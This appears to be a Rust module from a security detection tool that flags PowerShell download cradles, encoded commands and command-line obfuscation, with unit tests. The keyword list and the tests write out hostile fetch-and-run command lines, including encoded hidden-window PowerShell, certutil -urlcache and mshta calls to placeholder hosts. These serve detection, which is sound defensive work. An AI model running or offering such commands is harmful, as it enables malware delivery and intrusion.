//! Reading command lines: the obfuscation and download-cradle indicators of stage 2, and the
//! file names a command line (or a Run-key value) refers to, for stages 5 and 6. Nothing here
//! allocates.

use yagura_sdk::matchers::{basename, contains_ignore_case};

/// Substrings that make a download cradle or a decode-and-run, with the label a finding
/// gives them. PowerShell names are case-insensitive, and so is the match.
const CRADLES: &[(&str, &str)] = &[
    ("frombase64string", "FromBase64String"),
    ("invoke-expression", "Invoke-Expression"),
    ("downloadfile", "DownloadFile"),
    ("downloadstring", "DownloadString"),
    ("downloaddata", "DownloadData"),
    ("invoke-webrequest", "Invoke-WebRequest"),
    ("invoke-restmethod", "Invoke-RestMethod"),
    ("net.webclient", "Net.WebClient"),
    ("webclient", "WebClient"),
    ("start-bitstransfer", "Start-BitsTransfer"),
    ("msxml2.xmlhttp", "MSXML2.XMLHTTP"),
    ("winhttp.winhttprequest", "WinHttpRequest"),
    ("urlcache", "certutil -urlcache"),
    ("/transfer", "bitsadmin /transfer"),
    ("scrobj.dll", "scrobj.dll (squiblydoo)"),
    ("javascript:", "javascript: URL"),
    ("vbscript:", "vbscript: URL"),
    ("http://", "URL on the command line"),
    ("https://", "URL on the command line"),
];

/// PowerShell aliases that only count as whole words (`iex` but not `index`).
const ALIASES: &[(&str, &str)] = &[("iex", "IEX"), ("iwr", "iwr"), ("irm", "irm")];

/// The first stage-2 indicator in `cmd`: an encoded PowerShell command, a download cradle
/// or command-line obfuscation; `None` for an ordinary command line.
pub fn indicator(cmd: &str) -> Option<&'static str> {
    if has_encoded_command(cmd) {
        return Some("encoded command (-EncodedCommand with base64)");
    }
    if let Some((_, label)) = CRADLES.iter().find(|(n, _)| contains_ignore_case(cmd, n)) {
        return Some(label);
    }
    if let Some((_, label)) = ALIASES.iter().find(|(w, _)| contains_word(cmd, w)) {
        return Some(label);
    }
    obfuscation(cmd)
}

/// Obfuscation marks: carets (`p^o^w^e^r^s^h^e^l^l`), string concatenation (`'Down'+'load'`),
/// `[char]` arithmetic, backticks, `-join`, `-bxor` and cmd's `%var:~n,m%` substrings.
fn obfuscation(cmd: &str) -> Option<&'static str> {
    let bytes = cmd.as_bytes();
    let count = |b: u8| bytes.iter().filter(|&&c| c == b).count();
    if count(b'^') >= 3 {
        return Some("caret obfuscation");
    }
    if count(b'`') >= 3 {
        return Some("backtick obfuscation");
    }
    let concat = bytes
        .windows(3)
        .filter(|w| matches!(w, [b'\'' | b'"', b'+', b'\'' | b'"']))
        .count();
    if concat >= 2 {
        return Some("string concatenation");
    }
    if occurrences(cmd, "[char]") >= 3 {
        return Some("[char] arithmetic");
    }
    if contains_ignore_case(cmd, "-join") || contains_ignore_case(cmd, "-bxor") {
        return Some("-join/-bxor decoding");
    }
    if contains_ignore_case(cmd, ":~") {
        return Some("environment-variable substrings (%var:~n,m%)");
    }
    None
}

/// Whether `cmd` holds a PowerShell encoded-command switch (`-e`, `-ec`, `-enc`… any prefix of
/// `-EncodedCommand`, with `-` or `/`) followed by a base64 argument of 16 or more characters.
fn has_encoded_command(cmd: &str) -> bool {
    let mut tokens = cmd.split_ascii_whitespace();
    while let Some(token) = tokens.next() {
        let Some(name) = token.strip_prefix(['-', '/']) else {
            continue;
        };
        let name = name.as_bytes();
        let switch = !name.is_empty()
            && (name.eq_ignore_ascii_case(b"ec")
                || b"encodedcommand"
                    .get(..name.len())
                    .is_some_and(|p| p.eq_ignore_ascii_case(name)));
        if switch && tokens.clone().next().is_some_and(is_base64) {
            return true;
        }
    }
    false
}

/// Whether `token` (quotes removed) is base64 text of 16 characters or more.
fn is_base64(token: &str) -> bool {
    let token = token.trim_matches(['"', '\'']);
    token.len() >= 16
        && token
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
}

/// How often `needle` occurs in `haystack`, ignoring ASCII case.
fn occurrences(haystack: &str, needle: &str) -> usize {
    let (h, n) = (haystack.as_bytes(), needle.as_bytes());
    if n.is_empty() || h.len() < n.len() {
        return 0;
    }
    (0..=h.len() - n.len())
        .filter(|&i| h[i..i + n.len()].eq_ignore_ascii_case(n))
        .count()
}

/// Whether `word` occurs in `haystack` as a whole word: not next to a letter, digit, `-` or
/// `_`.
fn contains_word(haystack: &str, word: &str) -> bool {
    let (h, w) = (haystack.as_bytes(), word.as_bytes());
    if w.is_empty() || h.len() < w.len() {
        return false;
    }
    let part_of_word = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    (0..=h.len() - w.len()).any(|i| {
        h[i..i + w.len()].eq_ignore_ascii_case(w)
            && (i == 0 || !part_of_word(h[i - 1]))
            && h.get(i + w.len()).is_none_or(|&b| !part_of_word(b))
    })
}

/// The file names (basenames) `text` refers to, at most `limit` of them: the last path part
/// of each word that looks like `name.ext`, with quotes, commas and `=` as separators, so
/// that `rundll32 "C:\Users\a b\x.dll",Control_RunDLL`, `regsvr32 -s ..\Drezd.red` and
/// `%TEMP%\x.exe` give `x.dll`, `Drezd.red`, `x.exe`. Paths with spaces are cut at the space;
/// the basename survives unless the file name itself has one.
pub fn file_names(text: &str, limit: usize) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_ascii_whitespace() || matches!(c, '"' | '\'' | ',' | '='))
        .map(basename)
        .filter(|name| looks_like_file(name))
        .take(limit)
}

/// `name.ext` with a 1–8 character alphanumeric extension and a non-empty stem.
fn looks_like_file(name: &str) -> bool {
    match name.rfind('.') {
        Some(dot) if dot > 0 => {
            let ext = &name[dot + 1..];
            (1..=8).contains(&ext.len()) && ext.bytes().all(|b| b.is_ascii_alphanumeric())
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_commands() {
        let b64 = "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA=";
        for cmd in [
            format!("powershell -enc {b64}"),
            format!("powershell.exe -NoP -W Hidden -E {b64}"),
            format!("cmd /c powershell /ec {b64}"),
            format!("pwsh -EncodedCommand \"{b64}\""),
            format!("powershell -en {b64}"),
        ] {
            assert_eq!(
                indicator(&cmd),
                Some("encoded command (-EncodedCommand with base64)"),
                "{cmd}"
            );
        }
        // -ex is -ExecutionPolicy; /e of robocopy takes a path, not base64
        assert!(!has_encoded_command(
            "powershell -ex bypass -file a.ps1 -e short"
        ));
        assert!(!has_encoded_command(r"robocopy C:\a D:\b /e"));
        assert!(!has_encoded_command("powershell -enc"));
    }

    #[test]
    fn cradles_and_aliases() {
        assert_eq!(
            indicator("powershell (New-Object Net.WebClient).DownloadFile('x','y')"),
            Some("DownloadFile")
        );
        assert_eq!(
            indicator("powershell IEX(New-Object IO.StreamReader($s))"),
            Some("IEX")
        );
        assert_eq!(indicator("powershell iwr x -OutFile z"), Some("iwr"));
        assert_eq!(
            indicator("powershell Get-ChildItem | Select -Index 1"),
            None
        );
        assert_eq!(
            indicator("certutil -urlcache -f http://x/a a"),
            Some("certutil -urlcache")
        );
        assert_eq!(
            indicator("mshta http://198.51.100.7/a.hta"),
            Some("URL on the command line")
        );
    }

    #[test]
    fn obfuscations() {
        assert_eq!(
            indicator("cmd /c p^o^w^e^rshell -w hidden"),
            Some("caret obfuscation")
        );
        assert_eq!(
            indicator("powershell $a='Down'+'load'+'File'"),
            Some("string concatenation")
        );
        assert_eq!(
            indicator("cmd /v:on /c set x=powershell&& call %x:~0,10%"),
            Some("environment-variable substrings (%var:~n,m%)")
        );
        assert_eq!(indicator(r#""C:\Windows\system32\cmd.exe""#), None);
        assert_eq!(indicator("cmd /c ping -n 1 intranet"), None);
        assert_eq!(indicator(""), None);
    }

    #[test]
    fn whole_words() {
        assert!(contains_word("IEX (x)", "iex"));
        assert!(contains_word("$a|iex", "iex"));
        assert!(!contains_word("index", "iex"));
        assert!(!contains_word("x-iex", "iex"));
        assert!(!contains_word("ie", "iex"));
    }

    #[test]
    fn file_names_in_command_lines() {
        let names = |s| file_names(s, 8).collect::<Vec<_>>();
        assert_eq!(
            names(
                r#"C:\Windows\SysWOW64\rundll32.exe "C:\Users\a b\AppData\Local\Xy\x.dll",Control_RunDLL"#
            ),
            ["rundll32.exe", "x.dll"]
        );
        assert_eq!(names(r"regsvr32 -s ..\Drezd.red"), ["Drezd.red"]);
        assert_eq!(names(r"%TEMP%\x.exe"), ["x.exe"]);
        assert_eq!(names("rundll32 x.dll,#1 a.b.c"), ["x.dll", "a.b.c"]);
        assert!(names("").is_empty());
        assert_eq!(file_names("a.a b.b c.c", 2).count(), 2);
        assert!(!looks_like_file(".hidden"));
        assert!(!looks_like_file("name."));
        assert!(!looks_like_file("x.toolongext"));
    }
}
